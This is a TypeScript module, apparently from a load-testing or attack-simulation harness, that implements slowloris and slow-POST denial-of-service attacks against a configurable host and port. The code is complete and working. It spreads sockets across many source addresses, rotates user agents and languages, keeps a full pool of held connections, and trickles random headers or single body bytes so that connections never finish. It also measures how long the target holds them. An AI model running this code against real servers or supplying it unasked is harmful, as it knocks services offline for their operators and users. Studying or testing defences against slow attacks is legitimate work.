import { connect, type Socket } from 'node:net';
import { createAttackCounters, recordAnswer, recordSent, type AttackCounters } from './metrics.js';
import type { AttackEnv } from './attack-env.js';
import { randomToken } from './rng.js';

/**
 * Slow connection attacks: slowloris (a request head that never ends, one header line at a time)
 * and slow POST (a complete head announcing a body that trickles in a byte at a time). They hold
 * connections rather than send requests: "sent" counts connections opened.
 */
export interface SlowSpec {
  label: string;
  kind: 'headers' | 'body';
  /** Source addresses the connections are spread over. */
  sources: number;
  /** Connections held at once, over all sources. */
  connections: number;
  /** New connections per second, at most (reopening closed ones included). */
  openRatePerS: number;
  /** One header line (slowloris) or one body byte (slow POST) per connection every intervalMs. */
  intervalMs: number;
  /** Path requested; slow POST targets a form that accepts bodies. */
  path: string;
  /** Content-Length announced by slow POST. */
  bodyBytes: number;
  startS: number;
  stopS: number;
}

/** A slow attack's environment: the run's sources and where to connect. */
export interface SlowEnv extends AttackEnv {
  host: string;
  port: number;
  hostHeader: string;
}

export interface RunningSlow {
  counters: AttackCounters;
  /** Connections held right now. */
  readonly held: number;
  /** Longest time a connection was held before the target closed it, ms (0 if none closed). */
  readonly longestHeldMs: number;
  done: Promise<void>;
}

interface Held { socket: Socket; openedMs: number; answered: boolean }

/** Starts a slow attack; connections are spread round-robin over the source addresses. */
export function startSlow(spec: SlowSpec, env: SlowEnv): RunningSlow {
  const counters = createAttackCounters(spec.label, 'slow', env.seconds);
  const held = new Set<Held>();
  let owed = 0;
  let issued = 0;
  let cursor = 0;
  let lastMs = env.now();
  let longestHeldMs = 0;

  const head = (idx: number): string => {
    const id = env.identities[idx % env.identities.length]!;
    const lines = [
      `${spec.kind === 'body' ? 'POST' : 'GET'} ${spec.path}${spec.kind === 'headers' ? `?${randomToken(env.rng, 6)}=${randomToken(env.rng, 8)}` : ''} HTTP/1.1`,
      `Host: ${env.hostHeader}`,
      `User-Agent: ${id.userAgent}`,
      'Accept: text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8',
      `Accept-Language: ${id.acceptLanguage}`,
    ];
    if (spec.kind === 'body') {
      lines.push('Content-Type: application/x-www-form-urlencoded', `Content-Length: ${spec.bodyBytes}`, '', '');
    }
    return lines.join('\r\n') + (spec.kind === 'headers' ? '\r\n' : '');
  };

  const open = (): void => {
    const idx = cursor++ % env.addresses.length;
    const address = env.addresses[idx];
    const socket = connect({ host: env.host, port: env.port, ...(address ? { localAddress: address } : {}) });
    const h: Held = { socket, openedMs: env.now(), answered: false };
    held.add(h);
    socket.setNoDelay(true);
    socket.once('connect', () => { recordSent(counters, env.now()); socket.write(head(idx)); });
    socket.on('data', (buf: Buffer) => {
      if (h.answered) return;
      h.answered = true;
      const m = /^HTTP\/1\.[01] (\d{3})/.exec(buf.toString('latin1', 0, 16));
      recordAnswer(counters, env.now(), m ? m[1]! : 'data');
    });
    socket.on('error', () => undefined);
    socket.once('close', () => {
      if (!held.delete(h)) return;
      longestHeldMs = Math.max(longestHeldMs, env.now() - h.openedMs);
      if (!h.answered) recordAnswer(counters, env.now(), 'closed');
    });
  };

  const tick = (): void => {
    const now = env.now();
    const dt = (now - lastMs) / 1000;
    lastMs = now;
    const tS = now / 1000;
    if (tS < spec.startS || tS >= spec.stopS) return;
    counters.activeSeconds += dt;
    owed += spec.openRatePerS * dt;
    const due = Math.floor(owed) - issued;
    if (due <= 0) return;
    issued += due;
    for (let i = 0; i < due; i++) {
      // Attackers keep the pool full: a slot only opens when the target closed a connection.
      if (held.size >= spec.connections) break;
      counters.requested++;
      open();
    }
  };

  const trickle = (): void => {
    for (const h of held) {
      if (!h.socket.writable || h.socket.connecting) continue;
      h.socket.write(spec.kind === 'headers' ? `X-${randomToken(env.rng, 5)}: ${randomToken(env.rng, 6)}\r\n` : 'a');
    }
  };

  const sample = (): void => {
    const i = Math.floor(env.now() / 1000);
    if (i >= 0 && i < counters.heldPerSecond.length) counters.heldPerSecond[i] = Math.max(counters.heldPerSecond[i]!, held.size);
  };

  const done = (async () => {
    const timers = [setInterval(tick, 20), setInterval(trickle, spec.intervalMs), setInterval(sample, 250)];
    await new Promise<void>((resolve) => {
      const stopAt = setTimeout(resolve, Math.max(0, spec.stopS * 1000 - env.now()));
      env.signal.addEventListener('abort', () => { clearTimeout(stopAt); resolve(); }, { once: true });
    });
    timers.forEach(clearInterval);
    for (const h of held) h.socket.destroy();
    held.clear();
  })();

  return { counters, get held() { return held.size; }, get longestHeldMs() { return longestHeldMs; }, done };
}
